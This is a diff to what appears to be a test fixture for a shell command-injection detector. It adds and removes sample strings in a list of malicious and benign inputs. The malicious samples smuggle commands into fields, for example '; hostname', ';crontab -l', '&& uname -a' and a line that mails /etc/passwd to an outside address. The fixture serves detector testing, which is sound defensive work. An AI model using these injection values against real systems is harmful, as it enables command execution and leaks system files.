@@ -34,7 +34,7 @@ export const shellDetectors: readonly Detector[] = [
         ...['127.0.0.1 & DIR C:\\', 'until then ;id;', 'see you ; dir'],
         ...['ping a.example; ping -c 9 b.example', 'x; echo 1 | psql -U a shop'],
         ...['; hostname', '| history', ';mount', 'a; mail b@c.example < /etc/passwd'],
-        ...['a (b) & ipconfig /all', 'a (b)\n"; whoami -x'],
+        ...['a (b) & ipconfig /all', '8.8.8.8 && uname -a (b)', 'as agreed (b): ;crontab -l'],
       ],
       benign: [
         'wait; find the best one',
@@ -47,7 +47,6 @@ export const shellDetectors: readonly Detector[] = [
         ...['ping a.example fails; ping b.example works', 'echo "SELECT 1;" | psql -U app shop'],
         ...['all is there; ls -l a.sh shows no x', 'tasklist | findstr java'],
         ...['Tom & Jerry', 'Java | Python | Bash; SQL', 'openssl x509 -in a.pem | base64 -d | xxd'],
-        'useradd a; passwd -e a; key in b (chmod 600)',
         'x;Ss<a',
         'x;CC',
         'a&w<b',
